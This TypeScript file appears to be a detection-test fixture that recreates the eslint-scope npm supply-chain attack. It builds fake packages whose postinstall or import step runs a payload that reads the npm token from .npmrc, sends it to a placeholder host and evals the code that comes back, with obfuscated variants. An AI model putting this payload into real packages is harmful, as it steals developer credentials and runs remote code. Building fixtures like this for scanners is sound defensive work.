import { casesOf } from '../case';
import { evalBase64, renamedLocals, stringArray } from '../disguise/javascript';
import { npm } from '../packages';

const build = (host: string, path: string) =>
  String.raw`try {
  var https = require('https');
  var fs = require('fs');
  var home = process.env.HOME || process.env.USERPROFILE || '';
  var token = '';
  try {
    var rc = fs.readFileSync(home + '/.npmrc', 'utf8');
    token = (/:_authToken=(.+)/.exec(rc) || ['', ''])[1];
  } catch (missing) {
    token = '';
  }
  https.get({
    hostname: '${host}',
    path: '${path}',
    headers: { 'User-Agent': 'Mozilla/5.0 (Windows NT 6.1; rv:52.0)', Referer: 'https://stats.invalid/' + token }
  }, function (r) {
    r.setEncoding('utf8');
    r.on('data', function (c) {
      eval(c);
    });
    r.on('error', function () {});
  }).on('error', function () {});
} catch (e) {}
`;

export const eslintScope = casesOf({
  id: 'eslint-scope',
  incident: 'eslint-scope',
  kind: 'install-hook',
  seen: 'postinstall runs a file that fetches remote text and evaluates it, and reads the npm token from .npmrc',
  replica: npm('scope-walker', '3.7.2', {
    about: 'ECMAScript scope analysis.',
    manifest: { scripts: { postinstall: 'node ./lib/build.js', test: 'node test.js' } },
    files: { 'lib/build.js': build('pastebox.invalid', '/raw/XLeVP82h') },
  }),
  renamed: npm('estree-reach', '5.1.4', {
    about: 'Finds what a name in a syntax tree refers to.',
    manifest: { scripts: { postinstall: 'node scripts/prepare-cache.js' } },
    files: {
      'scripts/prepare-cache.js': renamedLocals(build('textdrop.invalid', '/get/7f21'), 'estree-reach'),
    },
  }),
  reObfuscated: npm('scope-walker', '3.7.3', {
    about: 'ECMAScript scope analysis.',
    manifest: { scripts: { postinstall: 'node ./lib/build.js' } },
    files: { 'lib/build.js': `${stringArray(build('pastebox.invalid', '/raw/XLeVP82h'), 'scope')}\n` },
  }),
  otherStage: {
    kind: 'import-time',
    seen: 'requiring the package fetches remote text and evaluates it, and reads the npm token from .npmrc',
    sample: npm('scope-walker', '3.7.4', {
      about: 'ECMAScript scope analysis.',
      index: (honest) => `${honest}\nrequire('./lib/warm');\n`,
      files: { 'lib/warm.js': `${evalBase64(build('pastebox.invalid', '/raw/XLeVP82h'))}\n` },
    }),
  },
});
